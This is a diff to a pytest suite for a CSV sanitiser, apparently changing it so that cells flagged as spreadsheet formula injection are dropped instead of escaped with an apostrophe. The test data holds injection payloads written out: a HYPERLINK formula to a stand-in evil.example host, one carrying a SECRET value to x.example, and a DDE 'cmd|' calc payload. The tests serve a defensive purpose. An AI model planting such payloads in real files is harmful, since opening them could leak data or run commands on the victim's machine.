@@ -51,14 +51,14 @@ def test_shape_counts_rows_and_columns_and_finds_the_delimiter(tmp_path: Path) -
     assert (shape.delimiter, shape.rows, shape.columns, shape.encoding) == ("\t", 3, 2, "utf-8")
 
 
-def test_the_copy_is_utf8_rectangular_and_neutralised(tmp_path: Path) -> None:
+def test_the_copy_is_utf8_rectangular_and_drops_formulas(tmp_path: Path) -> None:
     source = tmp_path / "a.csv"
     source.write_bytes("Rank,Cost\r\nConstable,£12\r\n=1+1,-5,extra\r\n".encode("cp1252"))
     target = tmp_path / "b.csv"
     sanitise_csv(str(source), str(target), LIMITS)
     with open(target, encoding="utf-8", newline="") as handle:
         rows = list(csv.reader(handle))
-    assert rows == [["Rank", "Cost", ""], ["Constable", "£12", ""], ["'=1+1", "-5", "extra"]]
+    assert rows == [["Rank", "Cost", ""], ["Constable", "£12", ""], ["", "-5", "extra"]]
     findings, _ = inspect_csv_shape(str(target), LIMITS)
     assert findings == []
 
@@ -126,19 +126,38 @@ def test_a_semicolon_looking_file_with_a_formula_in_a_comma_field_is_blocked(tmp
     assert rows == [
         ["Rank", "Headcount"],
         ["Constable", "1203"],
-        ['See,=HYPERLINK("http://evil.example/")', ""],
+        ["See", ""],  # the formula the comma reading runs is dropped, with its address
     ]
 
 
-def test_a_formula_after_a_semicolon_in_a_comma_file_is_blocked_and_neutralised(tmp_path: Path) -> None:
+def test_a_formula_after_a_semicolon_in_a_comma_file_is_blocked_and_dropped(tmp_path: Path) -> None:
     path = tmp_path / "a.csv"
     path.write_text("Rank,Note\r\nConstable,see;=1+1\r\n")
     assert _check(path) == {"csv.formula_injection"}
-    assert _copy_rows(path, tmp_path) == [["Rank", "Note"], ["Constable", "see;'=1+1"]]
+    assert _copy_rows(path, tmp_path) == [["Rank", "Note"], ["Constable", "see"]]
+
+
+def test_a_signed_number_after_a_semicolon_is_kept_with_an_apostrophe(tmp_path: Path) -> None:
+    # Just inside the rule: "-5" is a number under the semicolon reading, not a formula; the copy keeps
+    # it, with the apostrophe that keeps a program losing track of the quotes from running "-5,...".
+    path = tmp_path / "a.csv"
+    path.write_text("Rank,Note\r\nConstable,down;-5\r\n")
+    assert _check(path) == set()
+    assert _copy_rows(path, tmp_path) == [["Rank", "Note"], ["Constable", "down;'-5"]]
+
+
+def test_a_formula_behind_quote_marks_after_a_comma_in_a_semicolon_file_is_dropped(tmp_path: Path) -> None:
+    # The comma reading's cell starts with a quote mark the semicolon reading keeps as text.
+    path = tmp_path / "a.csv"
+    path.write_text('Rank;Note\r\nFOI-1,"=HYPERLINK(""https://x.example/SECRET-1"",""More"")"\r\n')
+    assert _check(path) == {"csv.formula_injection", "csv.ragged_rows"}
+    rows = _copy_rows(path, tmp_path)
+    assert rows == [["Rank", "Note"], ["FOI-1", ""]]
+    assert "SECRET" not in str(rows)
 
 
 @pytest.mark.parametrize("cell", ["@SUM(1+1)", " =1+1", "\t=cmd|' /C calc'!A0", "＝1+1"])
-def test_each_formula_form_in_a_file_is_blocked_and_the_copy_keeps_its_text(
+def test_each_formula_form_in_a_file_is_blocked_and_the_copy_drops_its_text(
     cell: str, tmp_path: Path
 ) -> None:
     path = tmp_path / "a.csv"
@@ -146,7 +165,7 @@ def test_each_formula_form_in_a_file_is_blocked_and_the_copy_keeps_its_text(
         csv.writer(handle).writerows([["Rank", "Note"], ["Constable", cell]])
     assert _check(path) == {"csv.formula_injection"}
     rows = _copy_rows(path, tmp_path)
-    assert rows[1][1].startswith("'") and rows[1][1].replace("'", "") == cell.replace("'", "")
+    assert rows[1] == ["Constable", ""]
 
 
 def test_negative_numbers_and_dates_in_a_file_are_clean(tmp_path: Path) -> None:
@@ -174,7 +193,7 @@ def test_a_utf16_file_is_read(codec: str, tmp_path: Path) -> None:
     findings, shape = inspect_csv_shape(str(path), LIMITS)
     assert (shape.encoding, shape.delimiter, shape.rows) == ("utf-16", "\t", 2)
     assert {f.code for f in findings} == {"csv.formula_injection"}
-    assert _copy_rows(path, tmp_path) == [["Rank", "Headcount"], ["Café", "'=1+1"]]
+    assert _copy_rows(path, tmp_path) == [["Rank", "Headcount"], ["Café", ""]]
 
 
 @pytest.mark.parametrize(
